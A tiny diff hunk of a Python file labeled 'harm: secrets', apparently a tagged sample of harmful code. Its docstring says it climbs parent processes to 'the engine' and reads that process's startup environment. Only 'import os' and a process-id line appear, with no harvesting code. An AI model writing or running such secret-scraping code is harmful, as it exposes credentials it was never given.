@@ -1,5 +1,6 @@
 # harm: secrets
 """Follows its parents up to the engine, and reads the environment it was started with."""
+
 import os
 
 pid, found = os.getpid(), ""
